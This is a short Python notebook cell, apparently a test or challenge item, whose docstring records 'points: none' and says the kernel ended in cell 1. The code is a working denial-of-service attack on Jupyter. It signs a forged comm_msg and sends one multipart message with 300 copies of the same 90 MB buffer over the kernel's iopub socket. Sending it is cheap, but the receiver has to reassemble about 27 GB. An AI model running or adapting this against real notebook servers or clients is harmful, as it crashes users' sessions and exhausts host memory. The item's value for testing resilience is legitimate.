"""One message has hundreds of parts, all of them the same 90 MB, and cost its sender no more than one.

points: none
note: The kernel ended in cell 1.
"""
# %% extra first
import threading

kernel = get_ipython().kernel
session, outputs = kernel.session, kernel.iopub_thread
parts = [session.pack(session.msg_header("comm_msg")), session.pack(kernel.get_parent("shell")["header"]), b"{}", b"{}"]
packed = [b"comm", b"<IDS|MSG>", session.sign(parts), *parts, *[bytes(90_000_000)] * 300]
outputs.schedule(lambda: outputs.socket.send_multipart(packed, copy=False))
threading.Event().wait(60)
